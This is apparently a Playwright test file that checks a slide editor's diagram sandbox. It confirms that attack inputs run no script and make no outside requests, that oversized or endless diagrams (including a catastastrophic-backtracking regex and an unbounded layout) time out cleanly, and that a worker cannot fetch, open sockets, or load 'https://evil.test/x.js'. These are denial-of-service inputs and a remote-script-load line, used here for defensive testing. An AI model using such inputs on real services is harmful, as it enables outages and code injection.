import { expect, test } from '@playwright/test';
import { words } from '#words';
import { attacks } from './support/diagram-attacks.ts';
import { drawings, fence, settled } from './support/diagrams.ts';
import { type Harness, openSlides, startHarness } from './support/frame-harness.ts';

const say = words.en.frame.diagram;
const lines = (count: number, line: (index: number) => string) => Array.from({ length: count }, (_, index) => line(index)).join('\n');

/** Sources that would never end, or only after minutes, and what is said instead. */
const bombs: ReadonlyArray<{ name: string; text: string; remark: string }> = [
  { name: 'mermaid with 5,000 nodes', text: fence('mermaid', `graph TD\n${lines(2_500, (i) => `a${i}-->b${i}`)}`), remark: say.tooLarge },
  { name: 'nested blocks', text: fence('mermaid', `block-beta\n${'block\n'.repeat(100)}a\n${'end\n'.repeat(100)}`), remark: say.tooLarge },
  { name: 'a large graph', text: fence('dot', `graph {${' '.repeat(60_000)}}`), remark: say.tooLarge },
  { name: 'many edges', text: fence('dot', `digraph {\n${lines(5_000, () => 'a->b')}\n}`), remark: say.tooLarge },
  {
    name: 'a layout without end',
    text: fence(
      'dot engine=neato',
      `graph { maxiter=2147483647; epsilon=0; start=random; ${lines(300, (i) => `a${i}--b${(i * 7) % 90}`)} }`,
    ),
    remark: say.tooLong,
  },
  {
    name: 'an expression without end',
    text: fence('vega', `{"signals":[{"name":"x","init":"test(regexp('(a+)+$'), '${'a'.repeat(40)}b')"}],"marks":[]}`),
    remark: say.tooLong,
  },
  {
    name: 'a data set without end',
    text: fence('vega', '{"data":[{"name":"t","transform":[{"type":"sequence","start":0,"stop":20000},{"type":"cross"}]}],"marks":[]}'),
    remark: say.tooLong,
  },
];

test.describe('a diagram', () => {
  let harness: Harness;
  test.beforeAll(async () => {
    harness = await startHarness();
  });
  test.afterAll(() => harness.close());

  test('runs nothing, leads nowhere and asks for nothing', async ({ page }) => {
    const asked: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(harness.url) && !/^(?:data|blob):/.test(request.url())) asked.push(request.url());
    });
    const slides = await openSlides(page, harness, { text: '# Start' });
    for (const [index, attack] of attacks.entries()) {
      await slides.edit(() => `# Number ${index}\n\n${attack}\n`);
      await settled(slides);
      const state = await slides.frame.evaluate(() => {
        const foreign = [...document.querySelectorAll('.l-diagram *')];
        for (const one of foreign) for (const type of ['click', 'mouseover']) one.dispatchEvent(new MouseEvent(type, { bubbles: true }));
        const outward = (name: string, value: string) =>
          /^on/.test(name) || (/href$|^src$/.test(name) && !value.startsWith('#')) || /url\(\s*["']?[^#"']|javascript:/.test(value);
        return {
          pwned: ['pwned' in globalThis, 'pwned' in {}],
          elements: foreign
            .map(({ localName }) => localName)
            .filter((name) => /^(?:script|foreignobject|iframe|a|use|set|animate\w*|img)$/i.test(name)),
          attributes: foreign.flatMap((one) =>
            [...one.attributes].filter(({ name, value }) => outward(name, value)).map(({ name, value }) => `${name}=${value}`),
          ),
          styles: foreign.filter(
            ({ localName, textContent }) => localName === 'style' && /@import|https?:|url\(\s*["']?[^#"']/.test(textContent ?? ''),
          ).length,
        };
      });
      expect(state, `attack ${index + 1}: ${attack}`).toEqual({ pwned: [false, false], elements: [], attributes: [], styles: 0 });
    }
    expect(asked).toEqual([]);
    expect((await slides.got()).filter(({ type }) => type === 'link')).toEqual([]);
  });

  for (const { name, text, remark } of bombs) {
    test(`gives way: ${name}`, async ({ page }) => {
      const slides = await openSlides(page, harness, { text: `# One\n\n---\n\n# Two\n\n${text}\n` });
      // Typing goes on meanwhile.
      await slides.edit((now) => now.replace('# One', '# One and more'));
      await expect(slides.frame.locator('.l-reveal [data-slide="1"] h1')).toHaveText('One and more');
      await settled(slides);
      expect(await drawings(slides, '.l-reveal .l-diagram')).toMatchObject([{ remark }]);
      // What comes after is drawn.
      await slides.edit((now) => now.replace('# Two', `# Two\n\n${fence('dot', 'graph { here }')}`));
      await settled(slides);
      expect(await drawings(slides, '.l-reveal .l-diagram')).toMatchObject([{ remark: null, words: ['here'] }, { remark }]);
    });
  }

  test('is drawn by a worker that reaches nothing', async ({ page }) => {
    const slides = await openSlides(page, harness, { text: '# One' });
    const reached = await slides.frame.evaluate(() => {
      const tries = `
        const outcomes = [];
        const attempt = async (name, act) => { try { await act(); outcomes.push(name); } catch {} };
        (async () => {
          await attempt('fetch', () => fetch(${JSON.stringify(document.baseURI)}));
          await attempt('socket', () => new Promise((resolve, reject) => Object.assign(new WebSocket('ws://127.0.0.1:9'), { onopen: resolve, onerror: reject })));
          await attempt('eval', () => new Function('return 1')());
          await attempt('foreign script', () => importScripts('https://evil.test/x.js'));
          await attempt('own script elsewhere', () => import(${JSON.stringify(new URL('/parent.js', document.baseURI).href)}));
          await attempt('script in an address', () => import('data:text/javascript,1'));
          await attempt('another worker', () => new Promise((resolve, reject) => Object.assign(new Worker('data:text/javascript,postMessage(1)'), { onmessage: resolve, onerror: reject })));
          postMessage(outcomes);
        })();`;
      const worker = new Worker(URL.createObjectURL(new Blob([tries], { type: 'text/javascript' })));
      return new Promise((resolve) => {
        worker.onmessage = ({ data }) => resolve(data);
      });
    });
    expect(reached).toEqual([]);
  });
});
